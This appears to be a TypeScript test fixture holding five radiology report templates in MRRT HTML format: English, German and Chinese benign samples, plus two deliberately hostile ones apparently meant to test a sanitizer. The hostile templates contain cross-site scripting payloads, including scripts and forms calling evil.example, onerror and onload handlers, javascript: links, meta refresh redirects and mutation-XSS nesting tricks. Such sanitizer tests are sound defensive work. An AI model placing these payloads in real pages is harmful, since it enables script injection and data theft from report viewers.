/** Five MRRT templates: three as RadReport and the DRG write them, two that want to do harm. */

const head = (title: string, more = ''): string => `<!DOCTYPE html>
<html><head><meta charset="UTF-8"/><title>${title}</title>
<meta name="dcterms.title" content="${title}"/><meta name="dcterms.identifier" content="http://www.radreport.org/template/0000001"/>
<meta name="dcterms.type" content="IMAGE_REPORT_TEMPLATE"/><meta name="dcterms.publisher" content="Radiological Society"/>
<meta name="dcterms.language" content="en"/>
<script type="text/xml"><template_attributes><top-level-flag>true</top-level-flag><status>ACTIVE</status>
<coded_content><entry ORIGTXT="T1"><term><code meaning="CT of head" value="RPID22" scheme="RADLEX"/></term></entry></coded_content>
</template_attributes></script>${more}</head>`;

export const radReportChest = `${head('CT Chest Nodule Follow-up')}<body>
<section id="s0" class="level1" data-section-name="Procedure information"><header class="level1">Procedure information</header>
<p>Low dose CT of the chest.</p></section>
<section id="s1" class="level1" data-section-name="Findings"><header class="level1">Findings</header>
<section id="s11" data-section-name="Lungs"><header class="level2">Lungs</header>
<p><label for="t1">Nodule of</label> <input id="t1" type="number" name="Size" data-field-type="NUMBER" data-field-units="mm" value=""/> in the
<select id="t2" name="Lobe" data-field-type="SELECTION_LIST"><option name="a" value="a">right upper lobe</option><option selected value="b">left upper lobe</option></select>.</p></section>
<section id="s12" data-section-name="Pleura"><header class="level2">Pleura</header><p><textarea name="Pleura" data-field-type="TEXT">No effusion.</textarea></p></section>
</section>
<section id="s2" class="level1" data-section-name="Impression"><header class="level1">Impression</header><p><input type="text" name="Imp" value="Stable nodule."/></p></section>
</body></html>`;

export const germanAbdomen = `${head('Sonographie Abdomen (Ultraschall, US)')}<body>
<section data-section-name="Fragestellung"><header>Fragestellung</header><p>aus der Anforderung</p></section>
<section data-section-name="Befund"><header>Befund</header><p>Leber: <select name="Leber"><option>normal gro&szlig;</option><option>vergr&ouml;&szlig;ert</option></select></p>
<p>Gallenblase: <input type="checkbox" name="GB" value="Stein"/> Konkrement</p></section>
<section data-section-name="Beurteilung"><header>Beurteilung</header><p>Unauff&auml;lliger Befund.</p></section>
<section data-section-name="Empfehlung"><header>Empfehlung</header><p>Keine.</p></section></body></html>`;

export const chineseWrist = `${head('腕关节平片 DR')}<body><section data-section-name="影像所见"><header>影像所见</header>
<p><select name="侧"><option>左</option><option>右</option></select>腕关节诸骨骨质结构完整。</p></section>
<section data-section-name="诊断意见"><header>诊断意见</header><p>未见明确骨折。</p></section></body></html>`;

/** Scripts, handlers, remote pictures, styles that fetch, frames, forms that send. */
export const hostileScripts = `${head('MR Brain <b>tumour</b>', '<script>fetch("https://evil.example/a")</script><link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">')}<body onload="window.stolen = 1">
<section data-section-name="Findings" onclick="window.stolen = 2"><header>Findings</header>
<p style="background:url(https://evil.example/b.png)">No mass.<img src="https://evil.example/c.png" onerror="window.stolen = 3"><img src=x onerror=window.stolen=4>
<iframe src="https://evil.example/d"></iframe><object data="https://evil.example/e"></object><embed src="//evil.example/f">
<form action="https://evil.example/g"><input type="text" name="n" value="Normal." formaction="javascript:window.stolen=5" onfocus="window.stolen=6" autofocus></form>
<a href="javascript:window.stolen=7">link</a><svg onload="window.stolen=8"><script>window.stolen=9</script></svg><math><mtext></mtext></math></p>
<script type="text/javascript">document.write("<img src=https://evil.example/h>")</script></section>
<section data-section-name="Impression"><header>Impression</header><p>Normal MR brain.<template><script>window.stolen=10</script></template></p></section></body></html>`;

/** Markup that becomes something else when it is cleaned once, broken nesting, and a text that looks like markup. */
export const hostileNesting = `${head('US Thyroid')}<body><section data-section-name="Findings"><header>Findings</header>
<p>Node <scr<script>ipt>window.stolen=11</scr</script>ipt> seen.</p><noscript><p title="</noscript><img src=x onerror=window.stolen=12>"></noscript>
<p>&lt;img src=x onerror=window.stolen=13&gt; 5 &lt; 6 mm</p><style>@import "https://evil.example/i.css";</style>
<p><textarea name="x"><img src=x onerror=window.stolen=14></textarea></p><!--><img src=x onerror=window.stolen=15>--></section>
<section data-section-name="Impression"><header>Impression</header><p>Benign.<meta http-equiv="refresh" content="0;url=https://evil.example/j"></p></section>`;
